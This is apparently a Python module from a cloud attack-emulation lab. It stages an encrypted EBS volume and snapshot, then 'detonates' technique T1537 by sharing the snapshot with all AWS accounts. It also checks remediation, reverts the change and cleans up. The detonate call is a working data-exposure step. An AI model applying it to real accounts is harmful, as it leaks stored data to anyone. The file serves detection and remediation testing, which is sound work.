"""ebs-snapshot-made-public: an EBS snapshot shared with every AWS account (T1537)."""

from __future__ import annotations

from pathlib import Path

from lab.attacks.base import Prerequisites, Technique
from lab.attacks.resources import find_tagged, missing_ok, tag_specifications
from lab.emulator.endpoints import Endpoints
from lab.engines.posture import public_volume_permission

ZONE_SUFFIX = "a"


class EbsSnapshotMadePublic(Technique):
    folder = Path(__file__).parent

    def warm_up(self, endpoints: Endpoints) -> Prerequisites:
        """A 1 GiB lab volume and a private snapshot of it (reused if an earlier run left them)."""
        ec2 = endpoints.client("ec2", "harness")
        snapshots = find_tagged(ec2, "describe_snapshots", "Snapshots", self.id)
        volumes = find_tagged(ec2, "describe_volumes", "Volumes", self.id)
        if snapshots and volumes:
            prerequisites = {
                "volume_id": volumes[0]["VolumeId"],
                "snapshot_id": snapshots[0]["SnapshotId"],
            }
            self.revert(endpoints, prerequisites)
            return prerequisites
        volume_id = ec2.create_volume(
            AvailabilityZone=f"{endpoints.region}{ZONE_SUFFIX}",
            Size=1,
            Encrypted=True,
            TagSpecifications=tag_specifications("volume", self.id),
        )["VolumeId"]
        snapshot_id = ec2.create_snapshot(
            VolumeId=volume_id,
            Description=f"Lab target of {self.id}",
            TagSpecifications=tag_specifications("snapshot", self.id),
        )["SnapshotId"]
        return {"volume_id": volume_id, "snapshot_id": snapshot_id}

    def detonate(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        endpoints.client("ec2", "attacker").modify_snapshot_attribute(
            SnapshotId=prerequisites["snapshot_id"],
            Attribute="createVolumePermission",
            OperationType="add",
            GroupNames=["all"],
        )

    def is_remediated(self, endpoints: Endpoints, prerequisites: Prerequisites) -> bool:
        permissions = endpoints.client("ec2", "observer").describe_snapshot_attribute(
            SnapshotId=prerequisites["snapshot_id"], Attribute="createVolumePermission"
        )["CreateVolumePermissions"]
        return not any(public_volume_permission(p) for p in permissions)

    def revert(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        if not self.is_remediated(endpoints, prerequisites):
            endpoints.client("ec2", "harness").modify_snapshot_attribute(
                SnapshotId=prerequisites["snapshot_id"],
                Attribute="createVolumePermission",
                OperationType="remove",
                GroupNames=["all"],
            )

    def cleanup(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        ec2 = endpoints.client("ec2", "harness")
        with missing_ok("InvalidSnapshot.NotFound"):
            ec2.delete_snapshot(SnapshotId=prerequisites["snapshot_id"])
        with missing_ok("InvalidVolume.NotFound"):
            ec2.delete_volume(VolumeId=prerequisites["volume_id"])


TECHNIQUE = EbsSnapshotMadePublic
